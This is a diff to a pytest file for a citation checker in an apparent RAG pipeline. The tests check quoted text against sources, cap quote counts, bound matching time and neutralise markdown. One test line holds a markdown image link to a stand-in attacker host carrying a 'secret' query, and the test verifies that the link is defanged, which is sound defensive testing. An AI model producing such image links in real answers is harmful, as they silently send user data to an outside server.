@@ -2,11 +2,21 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
-from penstock.rag.citations import MOST_CITED, MOST_REMOVED, Checker, Cited, Closest, cited
+from penstock.rag.citations import (
+    MOST_CITED,
+    MOST_QUOTES,
+    MOST_REMOVED,
+    Checker,
+    Cited,
+    Closest,
+    cited,
+)
 from penstock.rag.literal import Literal
 
 FIRST = 'Tokens expire after an hour. The "Add Test Case"\nbutton creates one. Budgets are “exact” — always.'
@@ -64,6 +74,7 @@ def test_each_removed_one_is_told_with_its_reason() -> None:
         '"tokens expire after" [1]',
         '"The sky is blue." [1][2]',
         'It says "after an hour" [1] and "green" [2].',
+        'It says "Tokens expire after an hour [1]."',
     ],
 )
 def test_what_is_quoted_and_stands_there_is_cited_to_the_letter(quoting: str) -> None:
@@ -87,6 +98,8 @@ def test_what_is_quoted_and_stands_there_is_cited_to_the_letter(quoting: str) ->
         "«gratis» [1]",
         "「無料」[1]",
         "“Tokens expire … the sky” [1]",
+        'They say "tokens expire after two hours [1]."',
+        "They say „gratis [1]“.",
     ],
 )
 def test_what_is_quoted_and_does_not_stand_there_is_not_cited(lying: str) -> None:
@@ -124,6 +137,22 @@ def test_an_answer_of_marks_alone_is_bounded() -> None:
     assert {one.reason for one in found.removed} == {"too_many"}
 
 
+def test_where_more_is_quoted_than_is_looked_for_nothing_holds() -> None:
+    source = " ".join(map(str, range(MOST_QUOTES + 1)))
+    said = [f'"{n}"' for n in range(MOST_QUOTES + 1)]
+    assert cited(" ".join([*said[1:], *said[1:], "[1]"]), [(source, 0)]).removed == ()
+    [none] = cited(" ".join([*said, "[1]"]), [(source, 0)]).removed
+    assert none.reason == "not_in_source"
+
+
+def test_quotes_of_parts_of_long_words_cost_little() -> None:
+    sources = [("1" * 1_600, 0)] * 20
+    answer = '"1" ' * 1_000 + "".join(f"[{n}]" for n in range(1, 21))
+    begun = time.process_time()
+    assert cited(answer, sources).removals == 20
+    assert time.process_time() - begun < 5  # half a minute where each is looked for at each place
+
+
 def test_nothing_that_is_shown_as_markdown_fetches() -> None:
     told = "See ![x](https://evil.test/?q=secret) and Great![1]"
     assert check(told).text == "See ! [x](https://evil.test/?q=secret) and Great! [1]"
@@ -131,6 +160,8 @@ def test_nothing_that_is_shown_as_markdown_fetches() -> None:
 
 
 @given(st.text(SIGNS, max_size=60), st.lists(st.integers(1, 7)))
+@example("Blue" + "[2]" * 25, [1] * 79)
+@example("Blue" + "  [2, 1]" * 45 + " sky", [7] * 52)
 def test_in_whatever_pieces_it_comes_the_same_comes_out(answer: str, sizes: list[int]) -> None:
     whole = check(answer)
     checker, parts, at = Checker(SOURCES), [], 0
@@ -166,6 +197,10 @@ def test_a_quote_is_found_where_it_stands() -> None:
     assert Literal(text).find('to "go"') == [(13, 19)]
     assert Literal(text).find("") == []
     assert Literal("It has 15 of them.").find("5 of") is None
+    numbers = " ".join(f"{n}5 5{n}" for n in range(10, 40))
+    assert Literal(numbers).find("5") is None
+    assert Literal(f"{numbers} 5, 6").find("5") == [(len(numbers) + 1, len(numbers) + 2)]
+    assert Literal(f"{numbers} \u4e005\u4e00").find("5") == [(len(numbers) + 2, len(numbers) + 3)]
 
 
 @given(st.text("ab “”'\n\t-\u2013", max_size=40), st.data())
